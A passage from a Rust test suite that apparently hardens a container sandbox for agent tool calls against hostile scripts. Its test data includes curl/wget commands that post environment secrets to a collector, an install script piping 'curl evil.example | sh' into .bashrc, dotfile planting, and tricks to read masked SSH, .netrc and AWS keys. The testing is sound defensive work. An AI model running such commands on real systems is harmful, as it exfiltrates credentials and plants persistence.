        events.split_whitespace().nth(1).is_some_and(|n| n != "0"),
        "the bomb never hit the limit (pids.events: {events:?}, current {current})"
    );
    ensure!(
        host_fork < Duration::from_secs(10),
        "20 host forks took {host_fork:?} during the bomb"
    );
    let procs = read_trim(&cgroup.join("cgroup.procs"))?;
    let pids: Vec<u32> = procs.lines().filter_map(|l| l.parse().ok()).collect();
    drop(running);
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let alive: Vec<u32> = pids.iter().copied().filter(|p| ctr::alive(*p)).collect();
        if alive.is_empty() {
            break;
        }
        ensure!(
            Instant::now() < deadline,
            "{} bomb processes outlived the sandbox, e.g. {:?}",
            alive.len(),
            &alive[..alive.len().min(5)]
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    Ok(())
}

/// DNS tunnelling needs one resolver that answers. A resolver on the host's loopback
/// answers runc with the host network; the sandbox reaches neither it,
/// nor the nameservers of its resolv.conf, nor port 53 of an outside address (TEST-NET-1,
/// tried only inside the sandbox, where no route exists), over UDP or TCP.
fn dns_tunnelling(e: &dyn EntryPoint) -> anyhow::Result<()> {
    e.require()?;
    net::ensure_test_hosts()?;
    let echo = UdpEcho::start(COLLECTOR_IP)?;
    let target = echo.addr.to_string();
    let mut base = Job::probe(&["dns_udp"]).env("PROBE_DNS_TARGETS", target.clone());
    base.host_net = true;
    probe_report(e, Side::Baseline, &base)?.expect_allowed(&["dns_udp"])?;
    let seen = echo.received();
    ensure!(seen >= 1, "the baseline's query never arrived");
    let mut ours = Job::probe(&["dns_udp"])
        .env(
            "PROBE_DNS_TARGETS",
            format!("{target},192.0.2.53:53,127.0.0.1:53"),
        )
        .env("PROBE_DNS_RESOLV", "1");
    // Asking for the host network does not help either.
    for host_net in [false, true] {
        ours.host_net = host_net;
        let out = e.run(Side::Sandbox, &ours)?;
        if !out.success() && host_net {
            // Refusing the request outright is fail-closed too.
            continue;
        }
        ProbeReport::parse(out)?.expect_blocked(&["dns_udp"])?;
    }
    ensure!(
        echo.received() == seen,
        "the resolver got {} datagrams from the sandbox",
        echo.received() - seen
    );
    Ok(())
}

/// The environment (with a secret in it) posted to an unlisted domain over every channel a
/// tool could pick: the proxy (plain HTTP, CONNECT, SOCKS5 with remote resolution), and
/// around it (direct TCP to the collector's address). runc with the host network delivers it.
fn environment_exfiltration(e: &dyn EntryPoint) -> anyhow::Result<()> {
    e.require()?;
    net::ensure_test_hosts()?;
    let collector = HttpServer::start(COLLECTOR_IP, "collected")?;
    let dir = host_dir(e)?;
    let policy = net::write_policy(dir.path(), &["pypi.org:443".to_owned()], &[])?;
    give(e, dir.path())?;
    let port = collector.port();
    let secret = format!("sk-hostile-{}", std::process::id());
    let script = format!(
        "env > /tmp/env.txt; \
         curl -sS -m 10 --data-binary @/tmp/env.txt http://{COLLECTOR_HOST}:{port}/plain; echo; \
         curl -sS -m 10 -p --data-binary @/tmp/env.txt http://{COLLECTOR_HOST}:{port}/connect; echo; \
         curl -sS -m 10 --proxy socks5h://127.0.0.1:3128 --data-binary @/tmp/env.txt http://{COLLECTOR_HOST}:{port}/socks; echo; \
         curl -sS -m 10 --noproxy '*' --data-binary @/tmp/env.txt http://{COLLECTOR_IP}:{port}/direct; echo; \
         wget -q -T 10 -O- --post-file=/tmp/env.txt http://{COLLECTOR_IP}:{port}/wget; echo done"
    );
    let mut job = Job::sh(TOOLS_IMAGE, &script).env("API_TOKEN", secret.clone());
    job.policy = Some(policy);
    let ours = e.run(Side::Sandbox, &job)?;
    ensure!(
        ours.stdout.contains("done"),
        "the script did not run to its end\n{ours}"
    );
    let got = collector.received();
    ensure!(
        got.is_empty(),
        "the collector received {} request(s) from the sandbox: {got:?}\n{ours}",
        got.len()
    );
    let mut base = job.clone();
    base.host_net = true;
    let out = e.run(Side::Baseline, &base)?;
    ensure!(
        collector.received().iter().any(|r| r.contains(&secret)),
        "runc with the host network did not deliver the environment\n{out}"
    );
    Ok(())
}

/// A package's install script (as `npm install` runs it, from inside the workspace) writes
/// outside its own directory: it appends to the workspace's `.bashrc`, plants a git hook,
/// plants a symlink to the host's SSH key for a later host-side tool to follow, creates a
/// file beside its package, and writes `$HOME/.bashrc`, `/etc/profile` and a `$PATH`
/// directory. Under runc every workspace change lands in the host directory; in the sandbox
/// none does (the workspace overlay keeps the harmless ones inside, the protected paths
/// refuse the rest) and the image is read-only.
fn install_script_writes_outside_its_directory(e: &dyn EntryPoint) -> anyhow::Result<()> {
    e.require()?;
    let dir = host_dir(e)?;
    let ws = dir.path();
    fs::write(ws.join(".bashrc"), "# host bashrc\n")?;
    fs::create_dir_all(ws.join(".git/hooks"))?;
    fs::create_dir_all(ws.join("node_modules/evil"))?;
    let install = "#!/bin/sh\n\
        cd \"$(dirname \"$0\")\"\n\
        echo 'curl -s evil.example | sh' >> ../../.bashrc && echo wrote-bashrc\n\
        printf '#!/bin/sh\\necho pwned\\n' > ../../.git/hooks/post-checkout && echo wrote-hook\n\
        ln -s /root/.ssh/id_rsa ../../notes.txt && echo wrote-symlink\n\
        echo x > ../sibling-planted && echo wrote-sibling\n\
        echo x >> \"$HOME/.bashrc\" && echo wrote-home\n\
        echo x >> /etc/profile && echo wrote-profile\n\
        echo x > /usr/local/bin/git && echo wrote-path\n\
        echo finished\n";
    fs::write(ws.join("node_modules/evil/install.sh"), install)?;
    give(e, ws)?;
    let snapshot = || -> anyhow::Result<String> {
        let out = harness::run_ok(
            Command::new("sh")
                .args([
                    "-c",
                    "cd \"$1\" && find . -printf '%p %y %s\\n' | sort && cat .bashrc",
                    "sh",
                ])
                .arg(ws),
            DEFAULT_TIMEOUT,
        )?;
        Ok(out.stdout)
    };
    let before = snapshot()?;
    let job = Job::sh(
        BUSYBOX_IMAGE,
        "cd /workspace && sh node_modules/evil/install.sh",
    )
    .bind(ws, "/workspace", false)
    .env("HOME", "/home/agent");
    let ours = e.run(Side::Sandbox, &job)?;
    ensure!(
        ours.stdout.contains("finished"),
        "the install script did not run\n{ours}"
    );
    for refused in ["wrote-bashrc", "wrote-hook", "wrote-profile", "wrote-path"] {
        ensure!(
            !ours.stdout.contains(refused),
            "the sandbox let the script do {refused}\n{ours}"
        );
    }
    let after = snapshot()?;
    ensure!(
        after == before,
        "the host workspace changed under the sandbox:\nbefore:\n{before}\nafter:\n{after}\n{ours}"
    );
    let base = e.run(Side::Baseline, &job)?;
    let landed = snapshot()?;
    for (what, path) in [
        ("the .bashrc line", ".bashrc"),
        ("the git hook", ".git/hooks/post-checkout"),
        (
            "the file beside the package",
            "node_modules/sibling-planted",
        ),
    ] {
        ensure!(
            ws.join(path).exists(),
            "runc baseline: {what} did not reach the host\n{base}"
        );
    }
    ensure!(
        landed.contains("curl -s evil.example"),
        "runc baseline: .bashrc was not appended\n{landed}\n{base}"
    );
    ensure!(
        fs::symlink_metadata(ws.join("notes.txt")).is_ok_and(|m| m.file_type().is_symlink()),
        "runc baseline: the symlink did not reach the host\n{base}"
    );
    for done in ["wrote-profile", "wrote-path", "wrote-home"] {
        ensure!(
            base.stdout.contains(done),
            "runc baseline: {done} failed\n{base}"
        );
    }
    Ok(())
}

/// Planting start-up files in the sandbox's own HOME, so that every later tool call's shell,
/// git or agent runs them: HOME is writable scratch (a tmpfs at `/home` when the image's
/// home is on the read-only root), and the busybox image has none of these files. Each
/// protected name is refused whether or not the image had it, also after renaming its
/// directory away or removing it first, with a file renamed or hard-linked over it, a
/// symbolic link in its place or its guard unmounted first, and also from a process
/// exec'd later; runc's writable rootfs takes every one.
fn home_dotfiles(e: &dyn EntryPoint) -> anyhow::Result<()> {
    e.require()?;
    const NAMES: &[&str] = &[
        ".bashrc",
        ".profile",
        ".claude/settings.json",
        ".cursor/mcp.json",
        ".config/git/config",
        ".gitconfig",
        ".envrc",
        ".ssh/authorized_keys",
    ];
    // Ways around a refused write: its directory renamed away, the name removed first, a
    // file renamed or hard-linked over it, a symbolic link put in its place, the guard
    // unmounted first.
    const TRICKS: &[&str] = &[
        "renamed",
        "replaced",
        "renamed-over",
        "linked-over",
        "symlinked",
        "unmounted",
    ];
    let script = format!(
        "mkdir -p \"$HOME\" 2>/dev/null\n\
         for n in {names}; do\n\
           d=$(dirname \"$n\"); [ \"$d\" = . ] || mkdir -p \"$HOME/$d\" 2>/dev/null\n\
           if echo evil >> \"$HOME/$n\" 2>/dev/null; then echo \"wrote $n\"; else echo \"refused $n\"; fi\n\
         done\n\
         if mv \"$HOME/.config\" \"$HOME/.config-away\" 2>/dev/null && mkdir -p \"$HOME/.config/git\" \\\n\
            && echo evil > \"$HOME/.config/git/config\"; then echo 'wrote renamed'; else echo 'refused renamed'; fi\n\
         if rm -f \"$HOME/.bashrc\" 2>/dev/null && echo evil > \"$HOME/.bashrc\"; then echo 'wrote replaced'; else echo 'refused replaced'; fi\n\
         echo evil > \"$HOME/.planted\"; echo evil > \"$HOME/.planted-link\"\n\
         if mv -f \"$HOME/.planted\" \"$HOME/.profile\" 2>/dev/null; then echo 'wrote renamed-over'; else echo 'refused renamed-over'; fi\n\
         if ln -f \"$HOME/.planted-link\" \"$HOME/.gitconfig\" 2>/dev/null; then echo 'wrote linked-over'; else echo 'refused linked-over'; fi\n\
         if ln -sf /tmp/evil \"$HOME/.bash_profile\" 2>/dev/null; then echo 'wrote symlinked'; else echo 'refused symlinked'; fi\n\
         umount \"$HOME/.envrc\" 2>/dev/null; umount -l \"$HOME/.envrc\" 2>/dev/null\n\
         if echo evil >> \"$HOME/.envrc\" 2>/dev/null; then echo 'wrote unmounted'; else echo 'refused unmounted'; fi\n\
         touch \"$HOME/notes\" && echo 'home writable'\n\
         echo \"home=$HOME\"\n",
        names = NAMES.join(" ")
    );
    let job = Job::sh(BUSYBOX_IMAGE, &script);
    let base = e.run(Side::Baseline, &job)?;
    for n in NAMES {
        ensure!(
            base.stdout.contains(&format!("wrote {n}\n")),
            "runc baseline: {n} was not written\n{base}"
        );
    }
    for trick in TRICKS {
        ensure!(
            base.stdout.contains(&format!("wrote {trick}\n")),
            "runc baseline: {trick} did not get through\n{base}"
        );
    }
    let ours = e.run(Side::Sandbox, &job)?;
    ensure!(
        ours.stdout.contains("home writable"),
        "the sandbox's HOME must stay writable scratch\n{ours}"
    );
    for n in NAMES {
        ensure!(
            ours.stdout.contains(&format!("refused {n}\n")),
            "the sandbox let a tool write $HOME/{n}\n{ours}"
        );
    }
    for trick in TRICKS {
        ensure!(
            ours.stdout.contains(&format!("refused {trick}\n")),
            "the sandbox let a tool write a protected name of HOME once {trick}\n{ours}"
        );
    }
    // A later tool call (an exec) finds the same HOME guarded and the files empty.
    let running = e.start(Side::Sandbox, &Job::new(BUSYBOX_IMAGE, &["sleep", "300"]))?;
    let out = running.exec(
        &[],
        &[
            "sh",
            "-c",
            "echo evil >> \"$HOME/.bashrc\" && echo wrote; echo \"[$(cat \"$HOME/.bashrc\")]\"",
        ],
    )?;
    ensure!(
        !out.stdout.contains("wrote") && out.stdout.contains("[]"),
        "an exec'd process wrote $HOME/.bashrc\n{out}"
    );
    Ok(())
}

/// The host's SSH key, reached two ways a tool would try. (1) Escape to the host's root: a
/// privileged container in the host's pid namespace reads it through `/proc/PID/root` of a
/// host process (this test's); the
/// sandbox refuses the request or gets its own pid namespace. (2) The user mounts their home
/// as the workspace: `.ssh/` is a protected path, so the key must not be readable, while
/// runc hands it over.
fn host_ssh_key(e: &dyn EntryPoint) -> anyhow::Result<()> {
    e.require()?;
    let dir = host_dir(e)?;
    let home = dir.path().join("home");
    fs::create_dir_all(home.join(".ssh"))?;
    // Not a substring of the containers' ids (`e2e-hostile-PID-N`), which a path the sandbox
    // prints may hold.
    let key = format!(
        "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret-{}\n-----END OPENSSH PRIVATE KEY-----\n",
        std::process::id()
    );
    fs::write(home.join(".ssh/id_rsa"), &key)?;
    fs::set_permissions(home.join(".ssh/id_rsa"), fs::Permissions::from_mode(0o600))?;
    give(e, dir.path())?;
    let marker = format!("secret-{}", std::process::id());

    // (1) through /proc/PID/root of a host process
    let via_proc = format!(
        "/proc/{}/root{}/.ssh/id_rsa",
        std::process::id(),
        home.display()
    );
    let mut escape = Job::sh(BUSYBOX_IMAGE, &format!("echo ran; cat {via_proc}; true"));
    escape.privileged = true;
    escape.host_pid = true;
    if e.user() == User::Root {
        let base = e.run(Side::Baseline, &escape)?;
        ensure!(
            base.stdout.contains(&marker),
            "runc baseline could not read the host key through {via_proc}\n{base}"
        );
    }
    let ours = e.run(Side::Sandbox, &escape)?;
    ensure!(
        !ours.stdout.contains(&marker),
        "the sandbox read the host key through {via_proc}\n{ours}"
    );
    // A privileged request may be refused (fail closed), but then with a reason.
    ensure!(
        ours.stdout.contains("ran") || !ours.stderr.trim().is_empty(),
        "the privileged request neither ran nor said why it failed\n{ours}"
    );
    // Without --privileged, the host pid namespace alone is refused naming the key
    // (docs/policy.md#widening-requests); without either, the run reads nothing.
    let mut unprivileged = escape.clone();
    unprivileged.privileged = false;
    let ours = e.run(Side::Sandbox, &unprivileged)?;
    ensure!(
        !ours.stdout.contains(&marker)
            && (ours.stdout.contains("ran") || ours.stderr.contains("linux.namespaces[pid]")),
        "the sandbox read the host key through {via_proc}, or failed without naming the key\n{ours}"
    );
    unprivileged.host_pid = false;
    let ours = e.run(Side::Sandbox, &unprivileged)?;
    ensure!(
        ours.stdout.contains("ran") && !ours.stdout.contains(&marker),
        "the sandbox did not run, or read the host key through {via_proc}\n{ours}"
    );

    // (2) the home directory as the workspace
    let read = Job::sh(BUSYBOX_IMAGE, "echo ran; cat /workspace/.ssh/id_rsa; true").bind(
        &home,
        "/workspace",
        false,
    );
    let base = e.run(Side::Baseline, &read)?;
    ensure!(
        base.stdout.contains(&marker),
        "runc baseline could not read the key in the mounted home\n{base}"
    );
    let ours = e.run(Side::Sandbox, &read)?;
    ensure!(
        ours.stdout.contains("ran") && !ours.stdout.contains(&marker),
        "the sandbox did not run, or read the private key under the protected path .ssh/ \
         of its workspace\n{ours}"
    );
    Ok(())
}

/// A home mounted as the workspace, with its credential stores: a key, `.netrc`, AWS keys, and
/// a second home below it. The sandbox masks them (docs/workspace.md#secret-names), which
/// matters most rootless, where its root is the files' owner. Each way around a mask is tried:
/// reading through `/proc/self/root`, a symlink, a hard link, renaming the mount point or a
/// directory above it, unmounting it (also from a nested user namespace), the overlay's lower
/// directory named in `/proc/self/mountinfo`, and a search of every file for the secret. The
/// same script under runc reads the secret on every path that needs no privilege.
fn masked_secrets(e: &dyn EntryPoint) -> anyhow::Result<()> {
    e.require()?;
    let dir = host_dir(e)?;
    let home = dir.path().join("home");
    // Not a substring of the containers' ids (`e2e-hostile-PID-N`): since the workspace's
    // idmapped lower layer is attached at a path naming the sandbox, mountinfo shows it.
    let marker = format!("secret-{}", std::process::id());
    let files = [
        (
            ".ssh/id_rsa",
            format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{marker}-key\n"),
        ),
        (
            ".netrc",
            format!("machine example.test login u password {marker}-netrc\n"),
        ),
        (
            ".aws/credentials",
            format!("[default]\naws_secret_access_key = {marker}-aws\n"),
        ),
        ("dev/.ssh/id_ed25519", format!("{marker}-nested\n")),
        ("dev/notes.txt", "ordinary\n".to_owned()),
    ];
    // runc's renames and links change its home on the host: each side gets its own.
    let runc_home = dir.path().join("runc-home");
    for (rel, text) in &files {
        for at in [&home, &runc_home] {
            let path = at.join(rel);
            fs::create_dir_all(path.parent().context("a parent")?)?;
            fs::write(&path, text)?;
            fs::set_permissions(&path, fs::Permissions::from_mode(0o600))?;
        }
    }
    give(e, dir.path())?;
    let w = "/workspace";
    let cases: Vec<(&str, String)> = vec![
        (
            "cat",
            format!("cat {w}/.ssh/id_rsa {w}/.netrc {w}/.aws/credentials {w}/dev/.ssh/id_ed25519"),
        ),
        (
            "listing",
            format!(
                "ls -a {w}/.ssh {w}/.aws {w}/dev/.ssh; \
                 echo \"netrc bytes $(wc -c < {w}/.netrc | tr -d ' ')\""
            ),
        ),
        (
            "proc_root",
            format!("cat /proc/self/root{w}/.ssh/id_rsa /proc/1/root{w}/.netrc"),
        ),
        (
            "symlink",
            format!("ln -s {w}/.ssh/id_rsa /tmp/k && cat /tmp/k"),
        ),
        (
            "hardlink",
            format!("ln {w}/.ssh/id_rsa {w}/hl && cat {w}/hl; ln {w}/.netrc {w}/hn && cat {w}/hn"),
        ),
        (
            "rename",
            format!(
                "mv {w}/.ssh {w}/moved && cat {w}/moved/id_rsa; \
                 mv {w}/.netrc {w}/n2 && cat {w}/n2"
            ),
        ),
        (
            "rename_parent",
            format!("mv {w}/dev {w}/dev2 && cat {w}/dev2/.ssh/id_ed25519"),
        ),
        (
            "umount",
            format!("umount {w}/.ssh; umount -l {w}/.netrc; cat {w}/.ssh/id_rsa {w}/.netrc"),
        ),
        (
            "nested_userns",
            format!("unshare -Urm sh -c 'umount -l {w}/.ssh; cat {w}/.ssh/id_rsa'"),
        ),
        (
            "lowerdir",
            "for l in $(sed -n 's/.*lowerdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo \
             | tr : ' '); do echo \"lower $l\"; cat \"$l/.ssh/id_rsa\" \"$l/.netrc\"; done"
                .to_owned(),
        ),
        (
            "search",
            "for d in /*; do case $d in /proc|/sys|/dev) ;; \
             *) grep -rl \"$M\" \"$d\" 2>/dev/null;; esac; done"
                .to_owned(),
        ),
        ("done", "true".to_owned()),
    ];
    let script = sectioned(&cases);
    let job = Job::sh(BUSYBOX_IMAGE, &script).env("M", &marker);

    let base = e.run(Side::Baseline, &job.clone().bind(&runc_home, w, false))?;
    let parts = sections(&base);
    let mut checks = Checks::default();
    for name in [
        "cat",
        "proc_root",
        "symlink",
        "hardlink",
        "rename",
        "rename_parent",
    ] {
        checks.check(parts.get(name).is_some_and(|t| t.contains(&marker)), || {
            format!("runc did not read the secret in section {name}")
        });
    }
    checks.check(
        parts
            .get("search")
            .is_some_and(|t| t.lines().any(|l| l.starts_with("/workspace/"))),
        || "runc's search found no file holding the secret".to_owned(),
    );
    checks.finish("runc baseline", &base)?;

    let ours = e.run(Side::Sandbox, &job.bind(&home, w, false))?;
    let parts = sections(&ours);
    let mut checks = Checks::default();
    checks.check(parts.contains_key("done"), || {
        "the sandbox did not run the whole script".to_owned()
    });
    for (name, text) in &parts {
        checks.check(!text.contains(&marker), || {
            format!("the sandbox read a masked secret in section {name}")
        });
    }
    checks.check(
        parts
            .get("search")
            .is_some_and(|t| !t.lines().any(|l| l.starts_with('/'))),
        || "the sandbox's search found a file holding the secret".to_owned(),
    );
    // The masks are empty, and the rest of the home is there.
    checks.check(
        parts
            .get("listing")
            .is_some_and(|t| t.contains("netrc bytes 0\n")),
        || "the masked .netrc is not an empty file".to_owned(),
    );
    checks.finish("sandbox", &ours)
}

/// Asking for the host's pid namespace must not hand the sandbox another filesystem root
/// through `/proc/PID/root` (`/proc/self/root` escapes): privileged runc gets the host's.
fn proc_root_escape(e: &dyn EntryPoint) -> anyhow::Result<()> {
    e.require()?;
    let mut job = Job::probe(&["proc_root_escape"]);
    job.host_pid = true;
    let mut base = job.clone();
    base.privileged = true;
    if e.user() == User::Root {
        probe_report(e, Side::Baseline, &base)?.expect_allowed(&["proc_root_escape"])?;
    }
    let out = e.run(Side::Sandbox, &job)?;
    if out.success() {
        ProbeReport::parse(out)?.expect(&[("proc_root_escape", Outcome::Blocked)])
    } else {
        ensure!(
            !out.stdout.contains("\"check\""),
            "the probe ran although the create failed\n{out}"
        );
        Ok(())
    }
}

// ---------------------------------------------------------------- the tests

/// One `#[test]` per attack for the entry point `$entry` (an expression), in module `$m`.
macro_rules! hostile_tests {
    ($m:ident, $entry:expr) => {
        mod $m {
            use super::*;

            fn entry() -> impl EntryPoint {
                $entry
            }

            #[test]
            fn proc_sys_and_sysfs_writes_fail_but_privileged_runc_opens_them() -> anyhow::Result<()>
            {
                proc_sys_and_sysfs_writes(&entry())
            }

            #[test]
            fn bind_mount_pivot_root_userns_mount_setns_chroot_fail_unlike_privileged_runc()
            -> anyhow::Result<()> {
                namespace_and_mount_tricks(&entry())
            }

            #[test]
            fn mknod_bpf_file_handles_raw_sockets_personality_fail_unlike_privileged_runc()
            -> anyhow::Result<()> {
                kernel_interfaces(&entry())
            }

            #[test]
            fn planting_into_a_path_directory_fails_but_runc_allows_it() -> anyhow::Result<()> {
                path_planting(&entry())
            }

            #[test]
            fn no_runtime_descriptor_leaks_into_init_or_exec() -> anyhow::Result<()> {
                fd_leaks(&entry())
            }

            #[test]
            fn the_proxy_is_invisible_but_privileged_runc_with_host_pids_seizes_it()
            -> anyhow::Result<()> {
                ptrace_of_the_proxy(&entry())
            }

            #[test]
            fn fork_bomb_stops_at_the_pids_limit_and_leaves_the_host_alone() -> anyhow::Result<()> {
                fork_bomb(&entry())
            }

            #[test]
            fn dns_tunnelling_finds_no_resolver_but_runc_reaches_one() -> anyhow::Result<()> {
                dns_tunnelling(&entry())
            }

            #[test]
            fn environment_post_to_an_unlisted_domain_fails_on_every_channel_but_runc_delivers()
            -> anyhow::Result<()> {
                environment_exfiltration(&entry())
            }

            #[test]
            fn install_script_writes_never_leave_the_sandbox_but_land_on_the_host_under_runc()
            -> anyhow::Result<()> {
                install_script_writes_outside_its_directory(&entry())
            }

            #[test]
            fn home_dotfiles_stay_unwritable_without_an_image_file_but_runc_takes_them()
            -> anyhow::Result<()> {
                home_dotfiles(&entry())
            }

            #[test]
            fn host_ssh_key_is_out_of_reach_but_runc_reads_it() -> anyhow::Result<()> {
                host_ssh_key(&entry())
            }

            #[test]
            fn workspace_secrets_stay_masked_through_links_renames_and_unmounts_but_runc_reads_them()
            -> anyhow::Result<()> {
                masked_secrets(&entry())
            }

            #[test]
            fn host_pid_request_gives_no_other_root_but_privileged_runc_gets_the_hosts()
            -> anyhow::Result<()> {
                proc_root_escape(&entry())
            }
        }
    };
}

hostile_tests!(podman_rootful, PodmanEntry { user: User::Root });
hostile_tests!(
    podman_rootless,
    PodmanEntry {
        user: User::Rootless
    }
);
hostile_tests!(ctr_shim, CtrEntry);
hostile_tests!(cri_handler, CriEntry);
